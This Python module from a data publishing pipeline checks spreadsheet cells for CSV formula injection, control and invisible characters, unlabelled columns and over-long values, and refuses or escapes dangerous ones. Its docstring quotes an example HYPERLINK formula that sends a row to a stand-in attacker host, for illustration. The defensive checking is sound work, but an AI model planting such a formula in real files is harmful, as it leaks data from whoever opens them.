"""The cell guard: values that would attack or fool the people who open the published files.

- Formula injection (OWASP "CSV Injection"): a text value starting with `=`, `+`, `-`, `@`
  (or their full-width forms ＝ ＋ － ＠, which spreadsheets in East Asian locales accept),
  or with a tab, carriage return or line feed, is run as a formula when an analyst opens
  the CSV in Excel or LibreOffice (`=HYPERLINK("http://evil.example/?d="&A2,"คลิก")` sends
  the row away). Not formulas, and left alone: a plain number (`-5`, `+3.5`, `-1,234.50`,
  which a spreadsheet reads as that number) and a lone `-` (how officers key "no data").
  Every other such value in a text field is an error naming the cell, unless the field says
  otherwise in fields.yaml with `formulas:` — `refuse` (the default), `escape` (published
  with a leading apostrophe, OWASP's advice, and a warning per cell: the value changes, so
  the officer is told), or `allow` (the field really holds formulas; nothing is checked).
  Integer, number and date fields are typed: a formula there fails validation already.
- Control characters (NUL, ESC, DEL, C1 …; Unicode category Cc except tab, line feed and
  carriage return) are not text: an error naming the cell. Invisible formatting characters
  (category Cf and friends, listed in `pipeline/thai.py`) are removed by cleaning; each cell
  that held one other than the zero-width spaces of ordinary Thai typing gets a warning.
- A cell under no header is not read: a warning names the column and its first cell.
- A value longer than an Excel cell holds (32,767 characters) would be cut in entries.xlsx:
  a warning, and the XLSX copy is not written (`publish.stage`); CSV and JSON keep it whole.

Every check is an Arrow kernel over a whole column; Python only visits the cells it flags.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from pipeline.columns import arrow_text, per_column
from pipeline.errors import ConfigError
from pipeline.headers import MappedSheet
from pipeline.issues import MAX_WARNINGS_PER_TYPE, Issue, column_letter, printable
from pipeline.normalize import NormalizedTable
from pipeline.publish import XLSX_CELL_LIMIT
from pipeline.read import SheetGrid
from pipeline.thai import CONTROL, FORMATTING

FORMULA_START = "^[=+\\-@\uff1d\uff0b\uff0d\uff20\\t\\r\\n]"
NOT_A_FORMULA = "^[+\\-]?(?:[0-9][0-9,]*(?:\\.[0-9]+)?|\\.[0-9]+)(?:[eE][+\\-]?[0-9]+)?$|^-$"
POLICIES = ("refuse", "escape", "allow")
SUSPECT = f"{CONTROL}|[{FORMATTING}]"
_FORMATTING = re.compile(f"[{FORMATTING}]")
_CONTROL = re.compile(CONTROL)
UNFILLED = "^[\\s\u00a0\u200b\u3000]*$"


def _rows_mask(mask: pa.Array | pa.ChunkedArray) -> np.ndarray:
    array = mask.to_numpy(zero_copy_only=False) if isinstance(mask, pa.Array) else mask.to_numpy()
    return np.asarray(array, dtype=bool)


def _rows(mask: pa.Array | pa.ChunkedArray) -> np.ndarray:
    return np.flatnonzero(_rows_mask(mask))


def hidden_characters(sheet: MappedSheet) -> list[Issue]:
    """Control characters (an error for each cell) and invisible formatting characters (a
    warning for each of the first MAX_WARNINGS_PER_TYPE cells of a column, then their count)
    in the mapped cells of one sheet, before cleaning removes the latter."""
    issues = []
    where = {"file": sheet.file, "sheet": sheet.sheet}
    names = list(sheet.data.columns)
    texts = [arrow_text(sheet.data[name]) for name in names]
    found = per_column(lambda text: _rows(pc.match_substring_regex(text, SUSPECT)), texts, len(sheet.data))
    for name, text, rows in zip(names, texts, found, strict=True):
        if not len(rows):
            continue
        suspects = text.take(pa.array(rows))
        control = _rows_mask(pc.match_substring_regex(suspects, CONTROL))
        formatting = np.flatnonzero(~control)
        shown = np.sort(np.concatenate([np.flatnonzero(control), formatting[:MAX_WARNINGS_PER_TYPE]]))
        for i in shown.tolist():
            value = suspects[i].as_py()
            cell = sheet.cell(name, int(sheet.row_numbers[rows[i]]))
            if control[i]:
                found = _CONTROL.search(value)
                issues.append(
                    Issue(
                        "error",
                        "control-character",
                        f"holds the control character U+{ord(found.group()) if found else 0:04X}, which is not text; "
                        "delete it from the cell",
                        cell=cell,
                        field=name,
                        value=printable(value),
                        rule="text only",
                        **where,
                    )
                )
            else:
                codes = sorted({f"U+{ord(c):04X}" for c in value if _FORMATTING.match(c)})
                issues.append(
                    Issue(
                        "warning",
                        "invisible-character",
                        f"invisible formatting character(s) {', '.join(codes)} removed",
                        cell=cell,
                        field=name,
                        value=printable(value),
                        **where,
                    )
                )
        if len(formatting) > MAX_WARNINGS_PER_TYPE:
            issues.append(more_invisible(len(formatting) - MAX_WARNINGS_PER_TYPE, name, where))
    return issues


def more_invisible(count: int, name: str, where: dict[str, str]) -> Issue:
    """The warning counting the cells of a column with invisible characters beyond those listed."""
    return Issue(
        "warning",
        "invisible-character",
        f"… and {count:,} more cells of {name} with invisible formatting characters, removed",
        field=name,
        **where,
    )


def more_escaped(count: int, name: str) -> Issue:
    """The warning counting the cells of a field escaped beyond those listed."""
    return Issue(
        "warning",
        "formula-escaped",
        f"… and {count:,} more cells of {name} published with a leading apostrophe",
        field=name,
    )


def unlabelled_cells(grid: SheetGrid, sheet: MappedSheet) -> list[Issue]:
    """A warning for each column holding values below the header row but no label in it:
    those cells are not read (a CSV record with a spare field lands there too)."""
    header = np.flatnonzero(grid.row_numbers == sheet.header_row)
    if not len(header):
        return []
    pos = int(header[0])
    labelled = {
        int(col)
        for col, label in zip(grid.cells.columns, grid.cells.iloc[pos].tolist(), strict=True)
        if isinstance(label, str) and label.strip()
    }
    found = unlabelled_counts(grid.cells.iloc[pos + 1 :], grid.row_numbers[pos + 1 :], labelled)
    return unlabelled_issues(found, grid.file, grid.sheet)


def unlabelled_counts(body: pd.DataFrame, row_numbers: np.ndarray, labelled: set[int]) -> dict[int, tuple[int, int]]:
    """Column -> (how many values, row number of the first) in the columns of `body` without a
    label; `pipeline/stream.py` adds these up over the batches of a large CSV."""
    found = {}
    for col in body.columns:
        if int(col) in labelled:
            continue
        rows = _rows(pc.invert(pc.match_substring_regex(arrow_text(body[col].reset_index(drop=True)), UNFILLED)))
        if len(rows):
            found[int(col)] = (len(rows), int(row_numbers[rows[0]]))
    return found


def unlabelled_issues(found: dict[int, tuple[int, int]], file: str, sheet: str) -> list[Issue]:
    issues = []
    for col, (count, row) in found.items():
        first = f"{column_letter(col)}{row}"
        issues.append(
            Issue(
                "warning",
                "unlabelled-cells",
                f"{count:,} value(s) in column {column_letter(col)} under no header are not read "
                f"(first: {first}); give the column a header from fields.yaml, or delete the values",
                file=file,
                sheet=sheet,
                cell=first,
            )
        )
    return issues


def check_values(table: NormalizedTable) -> list[Issue]:
    """Formula-like text (per each field's `formulas` policy) and cells too long for XLSX, in
    the values about to be published. `escape` changes `table.values` in place."""
    issues: list[Issue] = []
    for f in table.spec.fields:
        if f.formulas not in POLICIES:
            raise ConfigError(
                f"{table.spec.name}: field {f.name}: formulas: {f.formulas!r} is not one of {', '.join(POLICIES)}"
            )
        if f.type != "string":
            continue
        text = arrow_text(table.values[f.name])
        long_rows = _rows(pc.greater(pc.utf8_length(text), XLSX_CELL_LIMIT))
        for row in long_rows.tolist():
            issues.append(
                Issue(
                    "warning",
                    "cell-too-long",
                    f"{len(table.values[f.name].iat[row]):,} characters, more than an Excel cell holds "
                    f"({XLSX_CELL_LIMIT:,}): the Excel copy is not published; the CSV and JSON hold the whole value",
                    cell=table.cell(f.name, row),
                    field=f.name,
                    **table.where(row),
                )
            )
        if f.formulas == "allow":
            continue
        rows = _rows(pc.match_substring_regex(text, FORMULA_START))
        if len(rows):  # the few values starting with a trigger: which are plain numbers
            rows = rows[~_rows_mask(pc.match_substring_regex(text.take(pa.array(rows)), NOT_A_FORMULA))]
        if not len(rows):
            continue
        values = text.take(pa.array(rows)).to_pylist()
        named = rows if f.formulas == "refuse" else rows[:MAX_WARNINGS_PER_TYPE]  # every error; warnings capped
        cells = table.cells(f.name, named)
        places = table.places(named)
        for value, cell, (file, sheet) in zip(values, cells, places, strict=False):
            first = printable(value[:1])
            if f.formulas == "refuse":
                issues.append(
                    Issue(
                        "error",
                        "formula-injection",
                        f"starts with {first!r}: a spreadsheet opening the published file would run it as a formula "
                        f"(CSV injection); remove the leading {first!r}, or set `formulas: escape` for {f.name} "
                        "in fields.yaml",
                        file=file,
                        sheet=sheet,
                        cell=cell,
                        field=f.name,
                        value=printable(value),
                        rule="no formula",
                    )
                )
            else:
                issues.append(
                    Issue(
                        "warning",
                        "formula-escaped",
                        f"starts with {first!r}: published with a leading apostrophe (') so that spreadsheets "
                        "show it as text, not run it",
                        file=file,
                        sheet=sheet,
                        cell=cell,
                        field=f.name,
                        value=printable(value),
                    )
                )
        if f.formulas == "escape" and len(rows) > len(named):
            issues.append(more_escaped(len(rows) - len(named), f.name))
        if f.formulas == "escape":
            column = table.values[f.name].copy()
            column.iloc[rows] = ["'" + v for v in values]
            table.values[f.name] = pd.Series(column, dtype="str")
    return issues
